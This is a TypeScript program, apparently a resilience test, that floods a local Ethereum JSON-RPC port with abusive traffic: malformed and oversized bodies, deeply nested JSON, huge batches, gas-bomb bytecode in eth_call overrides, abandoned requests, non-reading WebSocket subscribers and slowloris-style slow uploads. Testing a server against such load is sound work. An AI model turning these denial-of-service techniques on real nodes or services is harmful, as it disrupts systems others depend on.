import { request } from "node:http";
import { connect } from "node:net";
import { WebSocket } from "ws";

/**
 * A program that misuses a JSON-RPC port in every way at once for some seconds, as a process of its own:
 * `node rpcAttack.ts PORT MILLISECONDS`. It prints what it did as one JSON line.
 */
const port = Number(process.argv[2]);
const endMs = performance.now() + Number(process.argv[3]);
const running = (): boolean => performance.now() < endMs;
const counts: Record<string, number> = {};

function count(name: string): void {
  counts[name] = (counts[name] ?? 0) + 1;
}

/** Sends one body and forgets the answer. */
function post(body: string | Buffer, name: string): Promise<void> {
  return new Promise((resolve) => {
    const sent = request({ port, host: "127.0.0.1", method: "POST", headers: { "content-type": "application/json" } });
    sent.on("error", () => resolve());
    sent.on("response", (response) => {
      count(name);
      response.resume();
      response.on("close", resolve);
    });
    sent.end(body);
  });
}

const call = (method: string, params: unknown, id = 1) => ({ jsonrpc: "2.0", id, method, params });

/** Repeats something in several lanes until the time is over. */
function repeat(lanes: number, run: () => Promise<void>): Promise<unknown> {
  return Promise.all(
    Array.from({ length: lanes }, async () => {
      while (running()) await run();
    }),
  );
}

const victim = `0x${"ab".repeat(20)}`;
/** JUMPDEST PUSH0 JUMP without end; KECCAK over a megabyte without end. */
const bombs = ["0x5b5f56", "0x5b620fffff5f20505f56"];
const bodies: readonly (readonly [string, string | Buffer])[] = [
  ["garbage", Buffer.alloc(100_000, 0xff)],
  ["deep", "[".repeat(200_000)],
  ["batch", JSON.stringify(Array.from({ length: 5_000 }, () => call("eth_chainId", [])))],
  [
    "blocks",
    JSON.stringify(Array.from({ length: 100 }, (_, id) => call("eth_getBlockByNumber", ["latest", true], id))),
  ],
  ["large", `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"data":"0x${"00".repeat(2_000_000)}"}]}`],
  ["too large", Buffer.alloc(6_000_000, 0x20)],
  ["keys", `{${Array.from({ length: 200_000 }, (_, i) => `"k${i}":0`).join(",")}}`],
  ["logs", JSON.stringify(Array.from({ length: 100 }, (_, id) => call("eth_getLogs", [{ fromBlock: "0x0" }], id)))],
];

async function bodiesOfAllKinds(): Promise<void> {
  for (const [name, body] of bodies) await post(body, name);
}

function gasBomb(): Promise<void> {
  const code = bombs[Math.floor(performance.now()) % bombs.length];
  const params = [{ to: victim, gas: "0xfffffffffff" }, "latest", { [victim]: { code } }];
  count("gas bomb sent");
  return post(JSON.stringify(call("eth_call", params)), "gas bomb");
}

/** Asks for work and leaves at once. */
function leave(): Promise<void> {
  return new Promise((resolve) => {
    const params = [{ to: victim }, "latest", { [victim]: { code: bombs[0] } }];
    const sent = request({ port, host: "127.0.0.1", method: "POST", headers: { "content-type": "application/json" } });
    sent.on("error", () => undefined);
    sent.on("close", resolve);
    sent.end(JSON.stringify(call("eth_call", params)));
    setTimeout(() => sent.destroy(), 5);
    count("left");
  });
}

/** Subscribes to everything, asks for blocks, and reads nothing. */
function deafSocket(): Promise<void> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}`);
    socket.on("error", () => resolve());
    socket.on("close", () => resolve());
    socket.on("open", () => {
      count("deaf socket");
      socket.pause();
      for (let i = 0; i < 64; i++)
        socket.send(JSON.stringify(call("eth_subscribe", ["newPendingTransactions", true], i)));
      for (let i = 0; i < 200; i++) socket.send(JSON.stringify(call("eth_getBlockByNumber", ["latest", true], i)));
      setTimeout(() => socket.terminate(), Math.max(0, endMs - performance.now()));
    });
  });
}

/** Declares a large body and sends a little of it from time to time. */
function slowBody(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    socket.on("error", () => undefined);
    const timer = setInterval(() => socket.write(Buffer.alloc(10_000, 0x20)), 50);
    socket.on("close", () => {
      clearInterval(timer);
      resolve();
    });
    socket.write(
      "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 5000000\r\n\r\n",
    );
    setTimeout(() => socket.destroy(), Math.max(0, endMs - performance.now()));
    count("slow body");
  });
}

void Promise.all([
  repeat(3, bodiesOfAllKinds),
  repeat(12, gasBomb),
  repeat(4, leave),
  repeat(40, deafSocket),
  repeat(40, slowBody),
]);
// Whoever still waits for an answer leaves without it.
setTimeout(() => {
  // Amid its work only the operating system ends a process for certain (exitAfter.ts says why).
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.kill(process.pid, "SIGKILL"));
}, endMs - performance.now());
